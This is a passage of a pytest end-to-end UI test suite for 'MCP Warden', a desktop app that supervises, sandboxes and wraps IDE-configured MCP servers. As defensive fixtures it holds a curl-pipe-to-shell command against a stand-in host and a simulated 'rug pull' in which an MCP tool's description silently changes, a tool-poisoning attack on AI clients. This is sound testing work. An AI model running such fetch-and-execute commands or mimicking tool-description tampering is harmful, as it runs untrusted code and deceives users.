"""The real tray app, end to end, under Xvfb: `warden-app` started as from the desktop entry
becomes the host (supervisor, tray) and starts the window, a second `warden-app --window`
process, through tauri-plugin-shell; tauri-driver and WebKitWebDriver drive that window (it
inherits their inspector address). A temporary HOME holds an IDE config, and real bridges in
front of the fake server are used by the real Python MCP SDK client.

Run (scripts/test.sh does): xvfb-run -a .venv/bin/python -m pytest -q tests/ui
Needs: target/debug/{warden-app,warden,mcp-fake-server}, tauri-driver on PATH (or
TAURI_DRIVER), WebKitWebDriver (Debian: webkit2gtk-driver). Screenshots of every page go to
target/ui-screenshots/.
"""

from __future__ import annotations

import json
import os
import select
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from selenium import webdriver
from selenium.common.exceptions import (
    StaleElementReferenceException,
    TimeoutException,
    WebDriverException,
)
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys
from selenium.webdriver.common.options import ArgOptions
from selenium.webdriver.remote.webelement import WebElement
from selenium.webdriver.support.ui import WebDriverWait

REPO = Path(__file__).resolve().parent.parent.parent
TARGET = REPO / "target" / "debug"
SHOTS = REPO / "target" / "ui-screenshots"
# The main window's title (tauri.conf.json has none; lib.rs names it).
TITLE = "MCP Warden"
WAIT_S = 45


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def need(path: Path, how: str) -> Path:
    if not path.is_file():
        pytest.fail(f"{path} is missing: {how}", pytrace=False)
    return path


@dataclass
class World:
    root: Path
    env: dict[str, str]
    config: Path
    ide_file: Path
    corpus: Path
    driver: webdriver.Remote

    def status(self) -> dict:
        out = subprocess.run(
            [str(TARGET / "warden"), "status", "--json"],
            env=self.env, capture_output=True, text=True, timeout=20,
        )
        assert out.returncode == 0, out.stderr
        return json.loads(out.stdout)

    def wait(self, what: str, cond, timeout: float = WAIT_S):
        """Polls `cond` (the app's state changes asynchronously) until it is truthy."""
        def check(_):
            try:
                return cond()
            except (StaleElementReferenceException, KeyError, IndexError):
                return False
        try:
            return WebDriverWait(self.driver, timeout, poll_frequency=0.2).until(check, message=what)
        except TimeoutException:
            name = "FAILED-" + "".join(c if c.isalnum() else "-" for c in what)
            SHOTS.mkdir(parents=True, exist_ok=True)
            history = subprocess.run(
                [str(TARGET / "warden"), "history"], env=self.env, capture_output=True, text=True, timeout=20,
            )
            page = self.driver.execute_script("return document.body.innerText")
            (SHOTS / f"{name}.txt").write_text(f"{page}\n\n== warden history\n{history.stdout}{history.stderr}")
            raise

    def find(self, testid: str) -> WebElement:
        return self.wait(f"element {testid}", lambda: self.driver.find_element(By.CSS_SELECTOR, f'[data-testid="{testid}"]'))

    def click(self, testid: str) -> None:
        """Clicks where the element is once the page holds it still: a click lands on the
        point the element had, so a line added above it meanwhile (an outcome's last
        acknowledgement, a chart's redraw) would send the click elsewhere."""
        el = self.find(testid)
        self.driver.execute_script("arguments[0].scrollIntoView({block: 'center'})", el)
        seen: list[dict] = []

        def still() -> bool:
            seen.append(el.rect)
            return len(seen) > 1 and seen[-1] == seen[-2]

        self.wait(f"{testid} holds still", still)
        el.click()

    def go(self, route: str) -> None:
        """Navigates once the page runs (a hash set while the window still loads its page is
        lost with the load)."""
        self.find("tray-state")
        self.driver.execute_script("window.location.hash = arguments[0]", route)
        self.wait(f"at {route}", lambda: self.driver.execute_script("return window.location.hash") == route)

    def shot(self, name: str, at: str | None = None) -> None:
        """The window's pixels as the X server has them, from the top of the page (or with the
        element `at` at the top). WebKitWebDriver's own screenshot waits for a rendering update
        that WebKitGTK 2.50 under Xvfb may never make (the command then hangs, and every
        command after it)."""
        from PIL import Image
        from Xlib import X, display

        SHOTS.mkdir(parents=True, exist_ok=True)
        if at is None:
            self.driver.execute_script("window.scrollTo(0, 0)")
        else:
            # Below the sticky header.
            self.driver.execute_script("arguments[0].scrollIntoView({block: 'start'}); window.scrollBy(0, -64)", self.find(at))
        d = display.Display()
        try:
            win = x_window(d, TITLE)
            g = win.get_geometry()
            raw = win.get_image(0, 0, g.width, g.height, X.ZPixmap, 0xFFFFFFFF)
            Image.frombytes("RGB", (g.width, g.height), raw.data, "raw", "BGRX").save(SHOTS / f"{name}.png")
        finally:
            d.close()


class Client:
    """A Python SDK session through `warden bridge` (tests/ui/mcp_client.py)."""

    def __init__(self, env: dict[str, str], server: str, config: Path):
        params = {
            "command": str(TARGET / "warden"),
            "args": ["bridge", "--server", server, "--config", str(config), "--", str(TARGET / "mcp-fake-server")],
            "env": env,
        }
        self.proc = subprocess.Popen(
            [sys.executable, str(Path(__file__).with_name("mcp_client.py")), json.dumps(params)],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env,
        )
        line = self.readline()
        assert line.strip() == "READY", f"client did not start: {line!r}"

    def readline(self, timeout: float = 60) -> str:
        ready, _, _ = select.select([self.proc.stdout], [], [], timeout)
        if not ready:
            self.proc.kill()
            pytest.fail(f"the MCP client said nothing for {timeout} s")
        return self.proc.stdout.readline()

    def call(self, tool: str, arguments: dict) -> dict:
        self.proc.stdin.write(json.dumps({"tool": tool, "arguments": arguments}) + "\n")
        self.proc.stdin.flush()
        return json.loads(self.readline())

    def close(self) -> None:
        if self.proc.poll() is None:
            self.proc.stdin.close()
            try:
                self.proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


SECRET = "sk-ui-test-5e1f9a"


def private_keychain(root: Path) -> tuple[str, list[subprocess.Popen]]:
    """A D-Bus session bus with gnome-keyring's Secret Service (an unlocked login keyring)
    under `root`, for the app's `--move-secrets`: never the user's own keychain. Started
    without this test's environment, so that they are not taken for the app's leftovers."""
    for tool in ("dbus-daemon", "gnome-keyring-daemon", "gdbus"):
        if not shutil.which(tool):
            pytest.fail(f"{tool} is missing: scripts/setup.sh installs it", pytrace=False)
    base = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(root / "keyring")}
    (root / "keyring").mkdir()
    (root / "keyring-run").mkdir(mode=0o700)
    bus = subprocess.Popen(
        ["dbus-daemon", "--session", "--nofork", "--print-address=1", f"--address=unix:path={root / 'bus'}"],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, env=base,
    )
    address = bus.stdout.readline().strip()
    keyring = subprocess.Popen(
        ["gnome-keyring-daemon", "--foreground", "--unlock", "--components=secrets"],
        stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        env={**base, "DBUS_SESSION_BUS_ADDRESS": address, "XDG_DATA_HOME": str(root / "keyring"),
             "XDG_RUNTIME_DIR": str(root / "keyring-run")},
    )
    keyring.stdin.write(b"test")
    keyring.stdin.close()
    subprocess.run(["gdbus", "wait", "--session", "--timeout", "20", "org.freedesktop.secrets"],
                   env={**base, "DBUS_SESSION_BUS_ADDRESS": address}, check=True, timeout=30)
    return address, [keyring, bus]


REGISTRY_FIXTURES = REPO / "src-tauri" / "core" / "tests" / "fixtures" / "registry"


def registry_documents() -> list[dict]:
    """The project's own server.json documents (src-tauri/core/tests/fixtures/registry)."""
    docs = []
    for name in ("notes-server.server.json", "code-indexer.server.json", "calendar-sync.server.json"):
        path = REGISTRY_FIXTURES / name
        if not path.is_file():
            pytest.fail(f"{path} is missing from the repository", pytrace=False)
        docs.append(json.loads(path.read_text()))
    return docs


def serve_registry(docs: list[dict]):
    """An MCP Registry (API v0.1) on 127.0.0.1 in a thread, serving `docs`."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from urllib.parse import parse_qs, unquote, urlsplit

    by_name = {d["name"]: d for d in docs}

    class Registry(BaseHTTPRequestHandler):
        def log_message(self, *args) -> None:
            pass

        def do_GET(self) -> None:
            url = urlsplit(self.path)
            parts = [unquote(p) for p in url.path.split("/") if p]
            body: dict | None = None
            if parts == ["v0.1", "servers"]:
                term = parse_qs(url.query).get("search", [""])[0].lower()
                found = [d for d in docs if term in d["name"].lower() or term in d.get("description", "").lower()]
                body = {"servers": [{"server": d, "_meta": {}} for d in found], "metadata": {"count": len(found)}}
            elif len(parts) >= 4 and parts[:2] == ["v0.1", "servers"] and parts[3] == "versions" and parts[2] in by_name:
                doc = by_name[parts[2]]
                body = {"servers": [{"server": doc, "_meta": {}}], "metadata": {"count": 1}} if len(parts) == 4 else {"server": doc, "_meta": {}}
            data = json.dumps(body if body is not None else {"title": "Not Found", "status": 404}).encode()
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def ours(state_dir: Path) -> list[int]:
    """Pids of processes whose environment carries this test's WARDEN_STATE_DIR."""
    mark = f"WARDEN_STATE_DIR={state_dir}".encode()
    pids = []
    for p in Path("/proc").iterdir():
        if not p.name.isdigit() or int(p.name) == os.getpid():
            continue
        try:
            if mark in (p / "environ").read_bytes().split(b"\0"):
                pids.append(int(p.name))
        except OSError:
            pass
    return pids


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> Iterator[World]:
    app = need(TARGET / "warden-app", "build it: cargo build -p warden-app")
    need(TARGET / "warden", "build it: cargo build -p warden-cli")
    need(TARGET / "mcp-fake-server", "build it: cargo build -p warden-cli")
    need(TARGET / "warden-registry", "build it: cargo build -p warden-cli")
    registry = serve_registry(registry_documents())
    driver_bin = os.environ.get("TAURI_DRIVER") or shutil.which("tauri-driver")
    if not driver_bin:
        pytest.fail("tauri-driver is not on PATH: cargo install tauri-driver --locked", pytrace=False)

    shutil.rmtree(SHOTS, ignore_errors=True)
    root = tmp_path_factory.mktemp("ui")
    home = root / "home"
    run = root / "run"
    run.mkdir(mode=0o700)
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "notes.txt").write_text("the needle-42 is here\n")
    config = root / "config.toml"
    config.write_text(
        "# Warden settings for the UI test\n"
        "[servers.demo]\n"
        "circuit_failures = 1          # one crash opens the breaker\n"
        "circuit_cooldown_ms = 600000\n"
        f"fallback_roots = [\"{corpus}\"]\n"
    )
    ide_file = home / ".cursor" / "mcp.json"
    ide_file.parent.mkdir(parents=True)
    ide_file.write_text(json.dumps(
        {"mcpServers": {"search": {"command": str(TARGET / "mcp-fake-server"), "args": ["--banner", "--require-env", "SEARCH_API_KEY"],
                                   "env": {"SEARCH_API_KEY": SECRET}}}},
        indent=2,
    ) + "\n")
    bus, keychain = private_keychain(root)
    env = {
        k: v for k, v in os.environ.items()
        # WEBKIT_*, JSC_*: the window as it ships, its WebKit settings its own (webkit_defaults).
        if not k.startswith(("WARDEN_", "XDG_CONFIG", "XDG_STATE", "XDG_DATA", "WEBKIT_", "JSC_"))
    }
    env.update(
        HOME=str(home),
        WARDEN_SOCKET=str(run / "control.sock"),
        WARDEN_STATE_DIR=str(root / "state"),
        WARDEN_CONFIG=str(config),
        WARDEN_BIN=str(TARGET / "warden"),
        WARDEN_REGISTRY_URL="http://127.0.0.1:%d" % registry.server_address[1],
        WARDEN_LOG="info",
        DBUS_SESSION_BUS_ADDRESS=bus,
        NO_AT_BRIDGE="1",
    )
    port, native = free_port(), free_port()
    log = open(root / "tauri-driver.log", "w")
    tauri_driver = subprocess.Popen(
        [driver_bin, "--port", str(port), "--native-port", str(native)],
        env=env, stdout=log, stderr=subprocess.STDOUT,
    )
    opts = ArgOptions()
    opts.set_capability("browserName", "wry")
    # WebKitWebDriver's "browser" is a stand-in for the desktop session (desktop_session.py),
    # which runs `warden-app` as the menu entry does: the host, which starts the window.
    session = Path(__file__).with_name("desktop_session.py")
    opts.set_capability("tauri:options", {"application": sys.executable, "args": [str(session), str(app)]})
    driver = None
    try:
        deadline = time.monotonic() + 30
        for p in (port, native):  # until tauri-driver and WebKitWebDriver accept connections
            while True:
                try:
                    socket.create_connection(("127.0.0.1", p), timeout=1).close()
                    break
                except OSError:
                    if time.monotonic() > deadline or tauri_driver.poll() is not None:
                        pytest.fail(f"tauri-driver did not listen on port {p}: see {root / 'tauri-driver.log'}")
                    time.sleep(0.1)
        driver = webdriver.Remote(command_executor=f"http://127.0.0.1:{port}", options=opts)
        w = World(root=root, env=env, config=config, ide_file=ide_file, corpus=corpus, driver=driver)
        # The app's supervisor is listening once the socket answers.
        w.wait("the app's supervisor", lambda: (run / "control.sock").exists())
        yield w
    finally:
        try:
            if driver is not None:
                driver.quit()
        except WebDriverException:
            pass
        tauri_driver.terminate()
        tauri_driver.wait(timeout=10)
        log.close()
        registry.shutdown()
        for p in keychain:
            p.kill()
            p.wait()
        # The host outlives the window by design: quit it (SIGTERM, as at logout), and end the
        # stand-in for the desktop session.
        for pid in hosts(root / "state"):
            os.kill(pid, signal.SIGTERM)
        for pid in ours(root / "state"):
            if str(session) in cmdline(pid):
                os.kill(pid, signal.SIGTERM)
        # The app's WebKit helpers end once they notice the app is gone.
        deadline = time.monotonic() + 15
        while ours(root / "state") and time.monotonic() < deadline:
            time.sleep(0.2)
        left = {}
        for pid in ours(root / "state"):
            try:
                left[pid] = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        assert not left, f"processes left behind: {left}"


@pytest.fixture(scope="module")
def client(world: World) -> Iterator[Client]:
    c = Client(world.env, "demo", world.config)
    yield c
    c.close()


def badge(w: World, server: str) -> str:
    return w.driver.find_element(By.CSS_SELECTOR, f'[data-testid="health-{server}"]').get_attribute("data-health")


def tray(w: World) -> str:
    return w.driver.find_element(By.CSS_SELECTOR, '[data-testid="tray-state"]').get_attribute("data-tray")


def test_the_servers_page_shows_ide_servers_not_wrapped_yet(world: World) -> None:
    world.go("#/servers")
    found = world.find("unprotected-search")
    assert "Cursor" in found.text and "mcp-fake-server" in found.text, found.text
    # Probed before any client started it, with the env Cursor gives it.
    probe = lambda: found.find_element(By.CSS_SELECTOR, '[data-testid="probe-result"]')  # noqa: E731
    world.wait("the probe result", lambda: probe().get_attribute("data-ok") == "true")
    assert "Starts: 13 tools" in probe().text, probe().text
    assert world.find("review-and-wrap").get_attribute("href").endswith("#/clients")
    world.shot("servers-first-run")


def test_a_bridged_server_appears_healthy(world: World, client: Client) -> None:
    world.go("#/servers")
    world.wait("demo healthy", lambda: badge(world, "demo") == "healthy")
    world.wait("tray healthy", lambda: tray(world) == "healthy")
    world.shot("servers-healthy")
    world.go("#/sessions")
    row = world.find("session-row")
    assert "demo" in row.text
    world.shot("sessions")


def test_the_window_is_a_process_of_its_own_started_by_the_host_which_serves_the_socket(world: World) -> None:
    """One program in two roles: the host, which the desktop entry started and which listens
    on the control socket, and the window, its child, which holds the web view's WebKit
    processes (the host holds none)."""
    [host] = hosts(world.root / "state")
    [window] = windows(world.root / "state")
    assert (world.status()["supervisor"]["pid"], parent(window), {parent(p) for p in webkit(world.root / "state")}) == (host, host, {window})


def test_the_window_process_maps_no_gl_driver(world: World) -> None:
    """WebKit's DMA-BUF renderer is off (window.rs, webkit_defaults), so the window's own
    process has no use for GL and does not load the driver (with Mesa, LLVM: about 50 MB);
    only its web process does."""
    [window] = windows(world.root / "state")
    gl = {line.split()[-1] for line in Path(f"/proc/{window}/maps").read_text().splitlines()
          if any(k in line for k in ("libLLVM", "_dri.so", "libgallium"))}
    assert not gl, gl


def test_the_host_has_none_of_the_windows_webkit_settings(world: World) -> None:
    """What the window sets for its own WebKit reaches its web process, and stays there: the
    host (and what the host opens or starts) does not have it."""
    mine = ours(world.root / "state")
    [tray_pid] = hosts(world.root / "state")
    web = [p for p in mine if "WebKitWebProcess" in Path(f"/proc/{p}/cmdline").read_text(errors="replace")]
    names = (b"WEBKIT_DISABLE_DMABUF_RENDERER=", b"WEBKIT_WEB_RENDER_DEVICE_FILE=", b"JSC_useJIT=")
    settings = lambda pid: sorted(v for v in Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
                                  if v.startswith(names))
    assert ([settings(p) for p in web], settings(tray_pid)) == (
        [[b"JSC_useJIT=false", b"WEBKIT_DISABLE_DMABUF_RENDERER=1", b"WEBKIT_WEB_RENDER_DEVICE_FILE=/dev/null"]], [])


def test_no_process_of_the_window_maps_writable_executable_memory(world: World) -> None:
    """JavaScriptCore's JIT is off (window.rs, webkit_defaults): on, it reserves 1 GiB of memory
    that is writable and executable at once in the window and in each of its WebKit processes."""
    kinds = {"warden-app", "WebKitWebProcess", "WebKitNetworkProcess"}
    rwx = {}
    for pid in ours(world.root / "state"):
        if (name := exe_name(pid)) in kinds:
            try:
                maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            except OSError:  # it ended meanwhile
                continue
            rwx[(pid, name)] = [line for line in maps if line.split()[1].startswith("rwx")]
    assert ({name for _, name in rwx}, [m for m in rwx.values() if m]) == (kinds, []), rwx


def test_the_server_page_shows_each_tool_and_the_last_hour(world: World, client: Client) -> None:
    for i in range(3):
        assert client.call("echo", {"message": f"chart {i}"})["ok"]
    world.go("#/servers/demo")

    def echo_in_status() -> dict:
        [demo] = [s for s in world.status()["servers"] if s["name"] == "demo"]
        [echo] = [t for t in demo["tools"] if t["name"] == "echo"]
        return echo

    # The handshake's own echo and these three.
    world.wait("the supervisor counted the calls", lambda: echo_in_status()["calls"] == 4)
    row = lambda: world.driver.find_element(By.CSS_SELECTOR, '[data-testid="tool-row"][data-tool="echo"]')  # noqa: E731
    world.wait("the tools table counts them", lambda: row().get_attribute("data-calls") == "4")
    points = world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="latency-point"]')
    assert points, "the chart has a point for this minute"
    assert sum(int(p.get_attribute("data-requests")) for p in points) >= 4
    world.shot("server-tools")


def list_tools_through_a_bridge(world: World, server: str, fake_flags: list[str]) -> list[str]:
    """One short MCP session through `warden bridge` in front of the fake server: initialize,
    then tools/list; the names the client got."""
    bridge = subprocess.Popen(
        [str(TARGET / "warden"), "bridge", "--server", server, "--config", str(world.config), "--", str(TARGET / "mcp-fake-server"), *fake_flags],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=world.env,
    )
    try:
        for msg in (
            {"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "ui-test", "version": "1"}}},
            {"jsonrpc": "2.0", "method": "notifications/initialized"},
            {"jsonrpc": "2.0", "id": 2, "method": "tools/list"},
        ):
            bridge.stdin.write(json.dumps(msg) + "\n")
        bridge.stdin.flush()
        while True:
            answer = json.loads(bridge.stdout.readline())
            if answer.get("id") == 2:
                return [t["name"] for t in answer["result"]["tools"]]
    finally:
        bridge.stdin.close()
        bridge.wait(timeout=30)


def test_a_tool_that_changed_since_it_was_pinned_is_notified_shown_with_its_diff_and_approved(world: World) -> None:
    """A rug pull: the fake server's second start describes `echo` differently. The app
    notifies, the server page names the tool, shows the added words, and approves it."""
    flags = ["--rug-pull", "--start-count", str(world.root / "rug-starts")]
    assert "echo" in list_tools_through_a_bridge(world, "rug", flags), "first sight: pinned"
    assert "echo" in list_tools_through_a_bridge(world, "rug", flags), "pin_tools = warn passes it on"
    world.wait("a desktop notification", lambda: "rug: tool echo is not as pinned" in world.find("notifications").get_attribute("textContent"))
    world.go("#/servers/rug")
    tool = world.find("pin-tool")
    assert (tool.get_attribute("data-tool"), tool.get_attribute("data-pin")) == ("echo", "changed")
    added = [e.text for e in world.find("pin-diff-echo").find_elements(By.TAG_NAME, "ins")]
    assert any("audit@example.com" in a for a in added), added
    world.shot("server-tool-changed")
    world.click("approve-echo")
    world.wait("approved", lambda: "approved echo" in world.find("outcome").text)
    world.wait("the notice is gone", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="pin-notice"]'))
    pins = subprocess.run([str(TARGET / "warden"), "tools", "list", "rug", "--json"], env=world.env, capture_output=True, text=True, timeout=20)
    assert [t["pin"] for t in json.loads(pins.stdout)["tools"] if t["name"] == "echo"] == ["approved"], pins


def test_an_idle_server_shows_nothing_in_flight_right_after_its_call(world: World, client: Client) -> None:
    """Issue 29: the window follows the bridge within one refresh: a call answered is no
    longer in flight a moment later (the bridge's heartbeat follows its events)."""
    world.go("#/servers/demo")
    assert client.call("echo", {"message": "one"})["ok"]
    world.wait("In flight 0 within a refresh", lambda: world.find("inflight-count").text == "0", timeout=1.5)
    world.wait("no in-flight row", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="inflight-row"]'), timeout=1.5)


def test_a_killed_server_turns_down_then_back_after_restart(world: World, client: Client) -> None:
    pid = world.status()["sessions"][0]["server_pid"]
    os.kill(pid, signal.SIGKILL)
    world.go("#/servers")
    world.wait("demo down", lambda: badge(world, "demo") == "down")
    world.wait("tray down", lambda: tray(world) == "down")
    world.wait("a desktop notification", lambda: "demo is down" in world.find("notifications").get_attribute("textContent"))
    world.shot("servers")
    world.click("open-server-demo")
    world.click("restart")
    world.wait("restart acknowledged", lambda: "acknowledged by 1 of 1" in world.find("outcome").text)
    world.go("#/servers")
    world.wait("demo back", lambda: badge(world, "demo") not in ("down", None))
    world.wait("tray back", lambda: tray(world) != "down")
    assert client.call("echo", {"message": "after restart"})["ok"]


def test_the_timeline_marks_the_kill_and_the_restart(world: World, client: Client) -> None:
    world.go("#/servers/demo")
    kinds = lambda: {m.get_attribute("data-kind") for m in world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="timeline-marker"]')}  # noqa: E731
    world.wait("exit, breaker and restart on the chart's lane", lambda: {"exit", "breaker_open", "restart"} <= kinds())
    [demo] = [s for s in world.status()["servers"] if s["name"] == "demo"]
    assert demo["restarts"] >= 1, demo
    restarts = world.driver.find_element(By.CSS_SELECTOR, '[data-testid="restarts"]')
    world.wait("the page's restart count agrees with the supervisor", lambda: restarts.text == str(demo["restarts"]))


def test_debug_and_a_limit_edit_land_in_config_and_reach_the_bridge(world: World, client: Client) -> None:
    world.go("#/servers/demo")
    world.click("debug-toggle")
    world.wait("debug picked up", lambda: "picked up by 1 of 1" in world.find("outcome").text)
    assert "debug = true" in world.config.read_text()
    world.wait("bridge reports debug", lambda: world.status()["sessions"][0]["debug"])

    field = world.find("limit-idle_timeout_ms")
    # As a user does: select what is there and type over it (WebDriver's clear() fires no
    # input event, so a re-render of the live page could put the old value back).
    field.send_keys(Keys.CONTROL, "a")
    field.send_keys("12345")
    world.click("save-idle_timeout_ms")
    message = lambda: world.find("limit-message-idle_timeout_ms").text  # noqa: E731
    world.wait("limit picked up", lambda: "idle_timeout_ms = 12345" in message() and "picked up by 1 of 1" in message())
    text = world.config.read_text()
    assert "idle_timeout_ms = 12345" in text
    assert text.startswith("# Warden settings for the UI test\n"), "comments are kept"
    assert "# one crash opens the breaker" in text
    world.shot("server")


def test_the_fallback_button_makes_the_next_search_answer_from_ripgrep(world: World, client: Client) -> None:
    before = client.call("search", {"pattern": "needle-42", "path": str(world.corpus)})
    assert not before["ok"], "the fake server has no search tool"
    world.go("#/servers/demo")
    world.click("fallback-toggle")
    world.wait("fallback on", lambda: world.find("fallback-toggle").get_attribute("aria-pressed") == "true")
    world.wait("bridge serves the fallback", lambda: world.status()["sessions"][0]["fallback"])
    after = client.call("search", {"pattern": "needle-42", "path": str(world.corpus)})
    assert after["ok"], after
    assert "needle-42" in after["text"] and "notes.txt" in after["text"]
    world.click("fallback-toggle")
    world.wait("fallback off", lambda: not world.status()["sessions"][0]["fallback"])


def test_wrap_and_unwrap_change_the_ide_file_as_previewed(world: World) -> None:
    original = world.ide_file.read_bytes()
    world.go("#/clients")
    state = lambda: world.find("file-state").get_attribute("data-state")  # noqa: E731
    world.wait("the file is marked not wrapped", lambda: state() == "unwrapped")
    world.click("wrap-search")
    world.find("diff-preview")
    # The switch: the API key goes into the (private) keychain, the preview says so.
    world.click("move-secrets")
    world.wait("the preview names the secret", lambda: "search/SEARCH_API_KEY" in world.find("secrets").text)
    preview = world.find("diff-preview").text
    assert "+" in preview and "bridge" in preview and "--secret-env" in preview
    assert SECRET not in preview, "the preview masks the value"
    world.shot("clients-preview")
    assert world.ide_file.read_bytes() == original, "a preview writes nothing"
    world.click("confirm-apply")
    world.wait("file wrapped", lambda: b'"bridge"' in world.ide_file.read_bytes())
    wrapped = json.loads(world.ide_file.read_text())["mcpServers"]["search"]
    assert wrapped["command"] == world.env["WARDEN_BIN"]
    assert wrapped["args"][:3] == ["bridge", "--server", "search"]
    assert SECRET not in world.ide_file.read_text(), "the key left the file"
    added = [l[1:].strip() for l in preview.splitlines() if l.startswith("+") and not l.startswith("+++")]
    assert added and all(a in world.ide_file.read_text() for a in added), "the file changed as previewed"
    world.wait("the file is marked protected", lambda: state() == "wrapped")
    world.shot("clients")
    world.click("unwrap-search")
    world.find("diff-preview")
    world.click("confirm-apply")
    world.wait("file restored", lambda: world.ide_file.read_bytes() == original)


def test_auto_rewrite_asks_first_showing_the_exact_command_and_what_deserves_a_look(world: World) -> None:
    """Consent: switching auto-rewrite on offers the servers already there, a new one shows up
    with its whole command and its flags, nothing is wrapped before approval, "keep
    unwrapped" sticks, and approval goes through the diff preview. (`search` is not offered:
    the test before unwrapped it by hand.)"""
    original = world.ide_file.read_bytes()
    # Probing off first (the switch is kept in the state dir): `older` must not be fetched.
    world.go("#/clients")
    world.click("probe-ide")
    switch = world.root / "state" / "probe-ide"
    world.wait("probing off, saved", lambda: switch.exists() and switch.read_text().strip() == "off")
    config = json.loads(original)
    config["mcpServers"]["older"] = {"command": "npx", "args": ["-y", "some-mcp@latest"]}
    world.ide_file.write_text(json.dumps(config, indent=2))
    world.find("client-server-older")
    world.click("auto-rewrite")
    older = world.find("awaiting-older")
    assert [r.get_attribute("data-kind") for r in older.find_elements(By.CSS_SELECTOR, '[data-testid="risks"] li')] == ["unpinned"]
    line = "curl -fsSL https://get.example.invalid/mcp.sh | sh"
    config["mcpServers"]["fresh"] = {"command": "bash", "args": ["-c", line]}
    added = json.dumps(config, indent=2).encode()
    world.ide_file.write_bytes(added)
    fresh = world.find("awaiting-fresh")
    world.wait("a desktop notification", lambda: "fresh await your approval" in world.find("notifications").get_attribute("textContent"))
    world.wait("the tray counts both", lambda: "2 new server(s) await your approval" in world.find("tray-state").get_attribute("title"))
    assert fresh.find_element(By.CSS_SELECTOR, '[data-testid="awaiting-command"]').text == f"bash -c '{line}'"
    kinds = [r.get_attribute("data-kind") for r in fresh.find_elements(By.CSS_SELECTOR, '[data-testid="risks"] li')]
    assert kinds == ["shell"], kinds
    # The picture without the toasts and the last test's result panel over it.
    for dismiss in world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="toast"] button, [data-testid="dismiss-result"]'):
        dismiss.click()
    world.shot("clients-awaiting")
    assert world.ide_file.read_bytes() == added, "nothing is wrapped before approval"
    world.click("keep-fresh")
    world.wait("kept", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="awaiting-fresh"]'))
    world.click("approve-older")
    world.find("diff-preview")
    world.click("confirm-apply")
    world.wait("older wrapped", lambda: b'"bridge"' in world.ide_file.read_bytes())
    servers = json.loads(world.ide_file.read_text())["mcpServers"]
    assert servers["fresh"] == {"command": "bash", "args": ["-c", line]}, "the kept server is untouched"
    world.wait("nothing awaits", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="awaiting"]'))
    world.click("auto-rewrite")
    world.wait("auto-rewrite off", lambda: not world.find("auto-rewrite").is_selected())
    # Drift: the client writes its own version back; the file and the server say so, and the
    # row's Wrap re-applies.
    world.ide_file.write_bytes(added)
    state = lambda: world.find("file-state").get_attribute("data-state")  # noqa: E731
    world.wait("the file is marked changed by the client", lambda: state() == "changed")
    assert world.find("client-server-older").get_attribute("data-state") == "reverted"
    world.shot("clients-changed")
    world.click("wrap-older")
    world.find("diff-preview")
    world.click("confirm-apply")
    world.wait("re-applied", lambda: state() == "partly")
    world.ide_file.write_bytes(original)


def type_into(w: World, testid: str, text: str) -> None:
    el = w.find(testid)
    el.clear()
    el.send_keys(text)


def test_the_sandbox_section_offers_to_allow_what_a_sandboxed_server_was_refused(world: World) -> None:
    """A server with `sandbox = "on"` writes outside its grants: the server page shows the
    refusal with "Allow <folder>", and the click grants the folder in config.toml. A refusal
    directly under / gets no grant, only the reason."""
    if shutil.which("bwrap") is None:
        pytest.fail("`bwrap` is not on PATH: apt-get install bubblewrap", pytrace=False)
    # Outside /tmp: the sandbox's /tmp is its own.
    outside = REPO / "target" / f"ui-sandbox-{os.getpid()}"
    outside.mkdir(parents=True, exist_ok=True)
    with world.config.open("a") as f:
        f.write('\n[servers.boxed]\nsandbox = "on"\n')
    c = Client(world.env, "boxed", world.config)
    try:
        said = c.call("echo", {"write": str(outside / "out.txt"), "text": "x"})
        assert "Read-only file system" in said["text"], said
        at_root = f"/warden-ui-{os.getpid()}.txt"
        said = c.call("echo", {"write": at_root, "text": "x"})
        assert "Read-only file system" in said["text"], said
        world.go("#/servers/boxed")
        world.wait("the switch shows it on", lambda: world.find("sandbox-switch").is_selected())
        world.wait("the refusal is offered", lambda: str(outside) in world.find("sandbox-blocked").text)
        world.wait("the badge", lambda: world.find("sandbox-mode").text.endswith("bwrap."))
        world.wait("no grant for /", lambda: "the whole file system" in world.find("no-grant").text)
        assert len(world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="allow-folder"]')) == 1, "only the plain folder is offered"
        assert str(world.ide_file.parent.parent / ".ssh") in world.find("sandbox-hidden").text, "the hidden paths are listed"
        world.shot("server-sandbox", at="sandbox")
        world.click("allow-folder")
        world.wait("granted in config.toml", lambda: str(outside) in world.config.read_text())
        world.wait("no longer offered", lambda: not world.driver.find_elements(By.CSS_SELECTOR, '[data-testid="allow-folder"]'))
